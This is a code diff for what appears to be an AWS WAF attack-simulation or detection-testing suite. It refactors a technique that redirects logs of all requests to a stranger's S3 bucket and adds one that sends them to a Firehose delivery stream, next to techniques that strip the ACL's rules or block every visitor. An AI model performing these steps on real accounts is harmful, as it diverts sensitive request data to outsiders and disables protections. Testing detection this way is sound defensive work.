@@ -41,6 +41,25 @@ const changed = (
   },
 });
 
+const loggingTo = (
+  where: string,
+  destinationOf: (surroundings: SharedScene['surroundings']) => string,
+): SharedTechnique => ({
+  name: `send a log of all requests to ${where}`,
+  check: 'routing.web-acl',
+  detonate: async (scene) => {
+    const { wafv2 } = scene.root;
+    const { ARN: ResourceArn } = await aclOf(scene);
+    const destination = destinationOf(scene.surroundings);
+    const LoggingConfiguration = { ResourceArn, LogDestinationConfigs: [destination] };
+    await wafv2.send(new PutLoggingConfigurationCommand({ LoggingConfiguration }));
+    return {
+      expectedEvidence: `sends a log of all requests to ${destination}`,
+      revert: () => wafv2.send(new DeleteLoggingConfigurationCommand({ ResourceArn })),
+    };
+  },
+});
+
 const ofRule =
   (called: string, change: (rule: Rule) => Partial<Rule>) =>
   ({ Rules = [] }: WebACL) => ({
@@ -90,21 +109,11 @@ export const WEB_ACL_TECHNIQUES: readonly SharedTechnique[] = [
       return { expectedEvidence: `the load balancer has the web ACL ${Summary?.ARN}`, revert };
     },
   },
-  {
-    name: 'send a log of all requests to a stranger’s bucket',
-    check: 'routing.web-acl',
-    detonate: async (scene) => {
-      const { wafv2 } = scene.root;
-      const { ARN: ResourceArn } = await aclOf(scene);
-      const bucket = 'arn:aws:s3:::aws-waf-logs-stranger';
-      const LoggingConfiguration = { ResourceArn, LogDestinationConfigs: [bucket] };
-      await wafv2.send(new PutLoggingConfigurationCommand({ LoggingConfiguration }));
-      return {
-        expectedEvidence: `sends a log of all requests to ${bucket}`,
-        revert: () => wafv2.send(new DeleteLoggingConfigurationCommand({ ResourceArn })),
-      };
-    },
-  },
+  loggingTo('a stranger’s bucket', () => 'arn:aws:s3:::aws-waf-logs-stranger'),
+  loggingTo(
+    'a delivery stream, which leads anywhere',
+    ({ region, accountId }) => `arn:aws:firehose:${region}:${accountId}:deliverystream/aws-waf-logs-support`,
+  ),
   changed('take the rules out of the web ACL', () => ({ Rules: [] }), 'the web ACL lacks the rule RateOfOneAddress'),
   changed('block every visitor', () => ({ DefaultAction: { Block: {} } }), 'the web ACL’s default action is {"Block"'),
   changed(
